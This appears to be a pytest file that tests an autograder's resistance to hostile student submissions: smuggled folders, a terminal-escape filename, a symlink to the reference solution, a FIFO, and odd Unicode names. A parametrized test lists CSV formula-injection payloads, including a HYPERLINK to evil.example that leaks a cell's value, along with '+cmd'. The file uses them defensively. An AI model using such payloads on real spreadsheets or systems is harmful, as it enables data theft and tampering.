"""Issue 12, items 1-6, 11 and 14: what a student controls besides their code (file and folder names,
extra files, links, timestamp files, text in outputs) never changes whose grade is whose, when a
submission came in, or whether the rest of the class is graded.

One hostile class on the toy course, graded once (``hostile``); the tests read its results.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import os
import shutil
import unicodedata
from dataclasses import dataclass
from pathlib import Path

import pytest

import autograder
from autograder.core.config import CourseConfig, load_config
from autograder.grading.batch import BatchSummary, grade_batch, open_batch
from autograder.grading.collect import MAX_ID_BYTES, safe_id
from autograder.outputs.exports import export_results, load_results

TOY = Path(__file__).resolve().parents[1] / "toy_course"
CONFIG_FILE = TOY / "course_config.py"
CORRECT = (TOY / "submissions" / "correct.py").read_text()
WRONG = (TOY / "submissions" / "wrong.py").read_text()  # 8 of 10
DEADLINE = dt.datetime(2026, 12, 10, 12, tzinfo=dt.UTC)  # 22 Dec 10:00 is 12 days late
NFC_ZOE, NFD_ZOE = unicodedata.normalize("NFC", "zoë"), unicodedata.normalize("NFD", "zoë")
BAD_UTF8 = os.fsdecode(b"x\xff\xfey")  # a name that is not UTF-8: Linux allows it
LONGEST = "s" * 255  # NAME_MAX
FORMULA = "-2+3"
SURROGATE = CORRECT.replace("    return a + b", "    raise ValueError('bad \\ud800 text')")


@dataclass
class Graded:
    root: Path
    plain: Path
    out: Path
    config: CourseConfig
    summary: BatchSummary

    def result(self, student: str) -> dict:
        return json.loads((self.out / f"{student}.json").read_text(encoding="utf-8"))


def _put(path: Path, text: str) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text, encoding="utf-8")


def _late_config() -> CourseConfig:
    config = load_config(CONFIG_FILE)
    sheet = config.sheets["toy"].model_copy(update={"deadline": DEADLINE, "late_penalty": "per_day",
                                                    "late_penalty_per_day": 0.05})
    return config.model_copy(update={"sheets": {"toy": sheet}})


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Graded:
    root = tmp_path_factory.mktemp("course")
    sub = root / "submitted"
    # item 1: alice hides other students' submissions inside her own folder
    _put(sub / "alice" / "toy" / "toy.py", WRONG)
    _put(sub / "alice" / "toy" / "submitted" / "carol" / "toy" / "toy.py", CORRECT)
    _put(sub / "alice" / "toy" / "submitted" / "bob" / "toy" / "toy.py", "raise SystemExit\n")
    _put(sub / "bob" / "toy" / "toy.py", CORRECT)
    _put(sub / "bob" / "toy" / "\x1b[2Jgone.py", "")  # a name that would clear the TA's terminal
    # item 2: the exchange's timestamp says 22 December; the student's own one says 1 December
    _put(sub / "late" / "toy" / "timestamp.txt", "2026-12-22 10:00:00.000000 UTC")
    _put(sub / "late" / "toy" / "work" / "toy.py", CORRECT)
    _put(sub / "late" / "toy" / "work" / "timestamp.txt", "2026-12-01 10:00:00.000000 UTC")
    # item 3: extra files, a nested folder, look-alike and odd names
    _put(sub / "ann" / "toy" / "toy.py", CORRECT)
    _put(sub / "ann" / "toy" / "helper.py", "x = 1\n")
    _put(sub / "ann" / "toy" / "old" / "toy.py", WRONG)
    _put(sub / "müller" / "toy" / "toy.py", CORRECT)
    _put(sub / "möller" / "toy" / "toy.py", WRONG)
    _put(sub / NFC_ZOE / "toy" / "toy.py", CORRECT)  # these two look identical: truly one id
    _put(sub / NFD_ZOE / "toy" / "toy.py", WRONG)
    for odd in (BAD_UTF8, "new\nline", LONGEST, FORMULA):
        _put(sub / odd / "toy" / "toy.py", WRONG)
    _put(sub / "notes" / "toy" / "README.txt", "I forgot the notebook")
    fifo = sub / "fifo" / "toy"
    _put(fifo / "toy.py", CORRECT)
    os.mkfifo(fifo / "timestamp.txt")  # must not block the batch
    # item 4: a link to the reference solution, outside the folder the TA named
    (sub / "mal" / "toy").mkdir(parents=True)
    (sub / "mal" / "toy" / "toy.py").symlink_to(TOY / "toy_reference" / "__init__.py")
    # item 6: text and JSON only a student could produce
    _put(sub / "sur" / "toy" / "toy.py", SURROGATE)
    _put(sub / "big" / "toy" / "toy.ipynb",
         '{"cells": [], "metadata": {"n": ' + "9" * 5000 + '}, "nbformat": 4, "nbformat_minor": 5}')
    # item 3: a plain folder with a 240-character stem
    plain = tmp_path_factory.mktemp("plain")
    _put(plain / ("a" * 240 + ".py"), CORRECT)
    out = root / "out"
    config = _late_config()
    summary = grade_batch(config=config, sheet="toy", paths=[root, plain], out_dir=out, jobs=1, device="cpu",
                          config_file=CONFIG_FILE)
    return Graded(root, plain, out, config, summary)


# ------------------------------------------------------------------ item 1: whose grade it is


def test_nested_submitted_folders_belong_to_the_student_who_holds_them(hostile: Graded) -> None:
    alice, bob = hostile.result("alice"), hostile.result("bob")
    assert not (hostile.out / "carol.json").exists()
    assert (alice["raw_score"], bob["raw_score"]) == (8, 10)
    assert alice["submission"] == "toy.py"
    assert {"submitted/carol/toy/toy.py", "submitted/bob/toy/toy.py"} <= set(alice["extra_data"]["not_graded_files"])


def test_reported_file_names_cannot_drive_the_terminal(hostile: Graded) -> None:
    assert hostile.result("bob")["extra_data"]["not_graded_files"] == ["\\x1b[2Jgone.py"]
    assert not any("\x1b" in line for line in hostile.summary.notes)


# ------------------------------------------------------------------ item 2: when it came in


def test_timestamp_comes_only_from_the_exchange_folder(hostile: Graded) -> None:
    late = hostile.result("late")
    assert late["submitted_at"].startswith("2026-12-22")
    assert late["raw_score"] == 10 and late["late_penalty"] == pytest.approx(10 * 12 * 0.05)


def test_a_fifo_timestamp_is_ignored(hostile: Graded) -> None:
    assert hostile.result("fifo")["raw_score"] == 10


# ------------------------------------------------------------------ item 3: everyone it can


def test_the_notebook_named_for_the_sheet_is_graded_and_the_rest_reported(hostile: Graded) -> None:
    ann = hostile.result("ann")
    assert ann["raw_score"] == 10
    assert sorted(ann["extra_data"]["not_graded_files"]) == ["helper.py", "old/toy.py"]
    assert any(note.startswith("ann: graded toy.py; not graded: helper.py") for note in hostile.summary.notes)


def test_unicode_ids_stay_distinct_and_readable(hostile: Graded) -> None:
    assert (hostile.result("müller")["raw_score"], hostile.result("möller")["raw_score"]) == (10, 8)


def test_only_truly_colliding_ids_are_refused(hostile: Graded) -> None:
    assert len(hostile.summary.refused) == 1 and repr(NFC_ZOE) in hostile.summary.refused[0]
    assert not (hostile.out / f"{NFC_ZOE}.json").exists()
    graded = {r.student_id for r in hostile.summary.results}
    assert {"alice", "bob", "late", "ann", "müller", "möller", "mal", "sur", "big", "notes", "fifo"} <= graded
    assert not hostile.summary.missing


def test_any_name_the_filesystem_allows_gets_a_result(hostile: Graded) -> None:
    ids = {r.student_id for r in hostile.summary.results}
    for raw in (BAD_UTF8, "new\nline", LONGEST, "a" * 240):
        sid = safe_id(raw)
        assert sid in ids and len(sid.encode()) <= MAX_ID_BYTES
        assert hostile.result(sid)["student_id"] == sid
    assert safe_id("new\nline") != safe_id("new_line") and safe_id("new\nline").startswith("new_line~")
    rows = list(csv.reader(io.StringIO((hostile.out / "grades.csv").read_text(encoding="utf-8"))))
    assert len(rows) == 1 + len(hostile.summary.results)


def test_a_folder_without_a_file_to_grade_is_not_gradable_with_a_reason(hostile: Graded) -> None:
    notes = hostile.result("notes")
    assert notes["gradable"] is False and "toy.ipynb" in notes["format_errors"]


def test_a_rerun_reuses_every_result_and_says_so(hostile: Graded) -> None:
    again = grade_batch(config=hostile.config, sheet="toy", paths=[hostile.root, hostile.plain],
                        out_dir=hostile.out, jobs=1, device="cpu", config_file=CONFIG_FILE)
    assert again.reused == len(again.results) == len(hostile.summary.results)
    assert again.graded == 0 and again.refused == hostile.summary.refused


# ------------------------------------------------------------------ item 4: links


def test_links_out_of_the_named_folder_are_not_followed(hostile: Graded) -> None:
    mal = hostile.result("mal")
    assert mal["gradable"] is False and mal["raw_score"] == 0
    assert "a link out of the folder" in mal["format_errors"]


# ------------------------------------------------------------------ item 6: the student's, not ours


def test_a_lone_surrogate_in_a_message_is_the_students(hostile: Graded) -> None:
    sur = hostile.result("sur")
    assert not sur["grader_error"] and len(sur["tests"]) == 7 and sur["raw_score"] == 9
    assert any("bad \ufffd text" in case["output"] for case in sur["tests"])


def test_a_huge_integer_in_the_notebook_is_not_gradable(hostile: Graded) -> None:
    big = hostile.result("big")
    assert big["gradable"] is False and not big["grader_error"] and "digits" in big["format_errors"]


# ------------------------------------------------------------------ items 11 and 14: the CSVs


def test_grades_csv_has_no_live_formula(hostile: Graded) -> None:
    text = (hostile.out / "grades.csv").read_text(encoding="utf-8")
    assert f"'{FORMULA}," in text and f"\n{FORMULA}," not in text


def test_grade_and_export_write_one_grades_csv(hostile: Graded, tmp_path: Path) -> None:
    results = load_results(hostile.out, sheet="toy")
    export_results(config=hostile.config, sheet=hostile.config.sheet("toy"), results=results,
                   out_dir=tmp_path, feedback=False)
    graded = (hostile.out / "grades.csv").read_text(encoding="utf-8")
    assert graded == (tmp_path / "grades.csv").read_text(encoding="utf-8")
    assert "late,4,3,3,10,0,0,6,4,10,no,yes" in graded  # autograded, written, adjustments, penalty, final


# ------------------------------------------------------------------ item 5: stale results


def test_a_new_engine_version_grades_again(hostile: Graded, monkeypatch: pytest.MonkeyPatch) -> None:
    def todo() -> int:
        return len(open_batch(config=hostile.config, sheet="toy", paths=[hostile.root], out_dir=hostile.out,
                              regrade=False).todo)

    assert todo() == 0
    monkeypatch.setattr(autograder, "__version__", "999.0")
    assert todo() > 0


def test_changed_engine_code_grades_again(hostile: Graded, monkeypatch: pytest.MonkeyPatch,
                                          tmp_path: Path) -> None:
    from autograder.judge.fingerprint import suite_hash

    copy = tmp_path / "autograder"
    shutil.copytree(Path(autograder.__file__).parent, copy, ignore=shutil.ignore_patterns("__pycache__"))
    monkeypatch.setattr(autograder, "__file__", str(copy / "__init__.py"))
    before = suite_hash(hostile.config, hostile.config.sheet("toy"))
    with (copy / "results.py").open("a") as handle:
        handle.write("\n# a change in the engine\n")
    assert suite_hash(hostile.config, hostile.config.sheet("toy")) != before


@pytest.mark.parametrize("name", ['=HYPERLINK("http://evil.example/?x="&A1,"grade")', "+cmd", "-1+2", "@SUM(A1)",
                                  "\t=1", "\r=1", "\n=1"])
def test_every_csv_neutralises_formulas_in_ids(name: str) -> None:
    from autograder.core.results import SubmissionResult, grades_table
    from autograder.outputs.exports import lms_table

    result = SubmissionResult(student_id=name, sheet="toy", submission="toy.py", score=3.0)
    for text in (grades_table([result], ["basics"]), lms_table([result], id_column="id", grade_column="toy")):
        cell = next(csv.reader(io.StringIO(text[text.index("\n") + 1:])))[0]
        assert cell == "'" + name  # shown as the text it is, never evaluated
    number = grades_table([result.model_copy(update={"student_id": "-3"})], [])
    assert number.splitlines()[1].startswith("-3,3,")  # a plain number stays a number


def test_every_submission_folder_is_hidden_from_sandboxes(tmp_path: Path) -> None:
    from autograder.grading.batch import plan, protected_roots

    _put(tmp_path / "class" / "alice" / "work" / "toy.py", CORRECT)  # one folder per student, no nbgrader
    _put(tmp_path / "class" / "alice" / "data" / "answers.txt", "secret")
    _put(tmp_path / "nb" / "submitted" / "bob" / "toy" / "toy.py", CORRECT)
    items, refused = plan([tmp_path / "class", tmp_path / "nb"], sheet=load_config(CONFIG_FILE).sheet("toy"))
    assert sorted(item.student_id for item in items) == ["alice", "bob"] and not refused
    hidden = protected_roots(items)
    assert {str(tmp_path / "class" / "alice"), str(tmp_path / "nb" / "submitted")} <= set(hidden)
